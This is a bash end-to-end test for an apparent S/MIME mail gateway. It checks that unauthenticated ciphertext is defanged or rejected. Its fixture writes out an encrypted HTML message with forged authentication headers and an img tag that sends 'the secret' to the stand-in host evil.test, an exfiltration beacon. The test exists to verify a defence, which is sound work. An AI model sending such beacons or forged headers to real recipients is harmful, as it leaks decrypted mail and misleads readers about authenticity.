#!/bin/bash
# What a reader gets of mail that could have been altered on its way, through a real mail server:
# nothing active with "defang", the same refusals with "reject", German tags, a summary in front.
set -u
cd "$(dirname "$0")" || exit 2
# shellcheck source-path=SCRIPTDIR
. ./e2e.sh

SETTINGS='subject_tags = true; summary = true; tag_encrypted = "[verschlüsselt]";
tag_unauthenticated = "[unbeglaubigt]";'

set_up() {
    pair_make "$SETTINGS unauthenticated_ciphertext = \"reject\";" \
        "$SETTINGS unauthenticated_ciphertext = \"defang\";" &&
        pair_user example alice && pair_user partner bob && pair_start
}

# encrypted FILE USER@DOMAIN CERTIFICATE: a page that loads a picture, with forged fields in front, whose names
# have a blank behind them (RFC 5322 section 4.5).
encrypted() {
    {
        printf 'X-Smimed-Signature : valid\nAuthentication-Results : mail.%s; smime=pass\n' "${2#*@}"
        printf 'From: someone@else.test\nTo: %s\nSubject: [signiert] hello\nMIME-Version: 1.0\n' "$2"
        printf 'Content-Type: text/html\n\n<p>%s<img src="http://evil.test/?%s"></p>\n' \
            "the secret" "the secret" | openssl cms -encrypt -aes256 "$3"
    } >"$1"
}

# to ORGANISATION USER@DOMAIN FILE
to() {
    ./smtp_client.pl --lf --port "${ORG_INBOUND[$1]}" --from someone@else.test --to "$2" "$3"
}

# The subject for people.
subject() {
    python3 -c 'import email, email.policy, sys
print(email.message_from_binary_file(open(sys.argv[1], "rb"), policy=email.policy.default)["subject"])' "$1"
}

defanged() {
    encrypted "$E2E_DIR/sent" bob@partner.test "$E2E_DIR/partner/pki/bob.pem"
    ok 'defang: accepted' to partner bob@partner.test "$E2E_DIR/sent"
    org_wait_mail partner bob 1 || die 'the defanged message does not arrive'
    ok 'defang: the text is there' contains "$MAIL" 'the secret'
    ok 'defang: the address is not' lacks "$MAIL" 'evil.test'
    sed '1,/^$/d' "$MAIL" >"$E2E_DIR/body"
    sed -n '/^Content-/p;/^ boundary/p;/^$/q' "$MAIL" | cat - <(echo) "$E2E_DIR/body" >"$E2E_DIR/inert.eml"
    ok 'defang: nothing active is left' python3 ../smime/check_inert.py "$E2E_DIR/inert.eml"
    ok 'defang: a field says so' equals "$(field "$MAIL" X-Smimed-Ciphertext)" \
        'unauthenticated, defanged'
    ok 'defang: so do tags, and no forged one' equals "$(subject "$MAIL")" \
        '[verschlüsselt] [unbeglaubigt] hello'
    ok 'defang: and no forged field' lacks "$MAIL" 'smime=pass'
    ok 'defang: of no name' equals "$(field "$MAIL" X-Smimed-Signature)" none
    ok 'defang: and the summary' contains "$MAIL" 'has checked this message'
}

differ() {
    ! cmp -s "$1" "$2"
}

refused() {
    local good bad
    encrypted "$E2E_DIR/sent" alice@example.com "$E2E_DIR/example/pki/alice.pem"
    good=$(to example alice@example.com "$E2E_DIR/sent" | sed -n 's/^END: //p')
    ok 'reject: refused' matches "$good" '^550 5\.7\.5'
    # Another character in the last line but one of the ciphertext.
    awk '{ line[NR] = $0 } END { for (i = 1; i <= NR; i++) {
        if (line[i + 2] == "" && line[i + 1] != "" && length(line[i]) >= 60)
            line[i] = (line[i] ~ /^A/ ? "B" : "A") substr(line[i], 2)
        print line[i] } }' "$E2E_DIR/sent" >"$E2E_DIR/altered"
    ok 'reject: another message' differ "$E2E_DIR/sent" "$E2E_DIR/altered"
    bad=$(to example alice@example.com "$E2E_DIR/altered" | sed -n 's/^END: //p')
    ok 'reject: altered, refused with the same words' equals "$bad" "$good"
    ok 'reject: nothing is delivered' equals "$(org_mail example alice | wc -l)" 0
}

e2e_begin
set_up || die 'the set-up failed'
defanged
refused
finish
